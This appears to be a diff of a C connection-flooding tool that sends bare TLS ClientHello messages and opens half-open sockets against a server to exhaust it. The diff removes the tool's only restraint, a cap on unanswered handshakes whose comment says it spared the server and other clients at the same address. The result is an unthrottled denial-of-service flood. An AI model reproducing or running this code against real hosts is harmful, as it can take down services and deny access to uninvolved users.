@@ -16,10 +16,6 @@
 #define TICK_MS 10
 #define TICKS_A_SECOND (1000 / TICK_MS)
 
-/* So many ClientHellos from one address may be unanswered. Each costs the server a signature, and more of them than
- * it can answer, which a busy machine has soon, leave others that come from the same address to chance. */
-#define MAX_UNANSWERED 64
-
 /* The least that begins a TLS handshake: the server answers, and waits. */
 static const guint8 client_hello[] = {
   0x16, 3, 1, 0, 77,               /* a handshake record, its length */
@@ -40,9 +36,7 @@ typedef struct
 {
   const FloodOptions *options;
   int epoll;
-  int *fds;           /* -1 for none */
-  gboolean *awaiting; /* whether the answer to its ClientHello is awaited */
-  guint unanswered;
+  int *fds; /* -1 for none */
   guint opened;
   guint next_address;
   guint tick;
@@ -55,15 +49,6 @@ now_ms (void)
 }
 
 static void
-flood_set_awaiting (Flood *self,
-                    guint i,
-                    gboolean awaiting)
-{
-  self->unanswered += awaiting - self->awaiting[i];
-  self->awaiting[i] = awaiting;
-}
-
-static void
 flood_close (Flood *self,
              guint i)
 {
@@ -73,7 +58,6 @@ flood_close (Flood *self,
   setsockopt (self->fds[i], SOL_SOCKET, SO_LINGER, &at_once, sizeof at_once);
   close (self->fds[i]);
   self->fds[i] = -1;
-  flood_set_awaiting (self, i, FALSE);
 }
 
 static void
@@ -103,7 +87,6 @@ flood_open (Flood *self,
     }
   self->fds[i] = fd;
   self->opened++;
-  flood_set_awaiting (self, i, self->options->kind == FLOOD_HELLO && !self->options->many);
   epoll_ctl (self->epoll, EPOLL_CTL_ADD, fd, &event);
 }
 
@@ -117,21 +100,14 @@ flood_send (Flood *self,
     flood_close (self, i);
 }
 
-static void
-flood_watch (Flood *self,
-             guint i)
-{
-  struct epoll_event event = { .events = EPOLLRDHUP | (self->awaiting[i] ? EPOLLIN : 0), .data.u32 = i };
-
-  epoll_ctl (self->epoll, EPOLL_CTL_MOD, self->fds[i], &event);
-}
-
 /* It is connected. */
 static void
 flood_begin (Flood *self,
              guint i)
 {
-  flood_watch (self, i);
+  struct epoll_event event = { .events = EPOLLRDHUP, .data.u32 = i };
+
+  epoll_ctl (self->epoll, EPOLL_CTL_MOD, self->fds[i], &event);
   if (self->options->kind == FLOOD_HELLO)
     flood_send (self, i, client_hello, sizeof client_hello);
   if (self->options->kind == FLOOD_HALF)
@@ -145,7 +121,7 @@ flood_tick (Flood *self)
   guint budget = options->rate / TICKS_A_SECOND;
 
   self->tick++;
-  for (guint i = 0; i < options->sockets && budget > 0 && self->unanswered < MAX_UNANSWERED; i++)
+  for (guint i = 0; i < options->sockets && budget > 0; i++)
     if (self->fds[i] < 0)
       {
         flood_open (self, i);
@@ -165,7 +141,6 @@ flood_run (const FloodOptions *options)
   gboolean ready = FALSE;
 
   self.fds = g_new (int, options->sockets);
-  self.awaiting = g_new0 (gboolean, options->sockets);
   for (guint i = 0; i < options->sockets; i++)
     self.fds[i] = -1;
 
@@ -179,11 +154,6 @@ flood_run (const FloodOptions *options)
           continue;
         else if (events[i].events & (EPOLLRDHUP | EPOLLHUP | EPOLLERR))
           flood_close (&self, events[i].data.u32);
-        else if (events[i].events & EPOLLIN)
-          {
-            flood_set_awaiting (&self, events[i].data.u32, FALSE);
-            flood_watch (&self, events[i].data.u32);
-          }
         else
           flood_begin (&self, events[i].data.u32);
       if (now_ms () >= next)
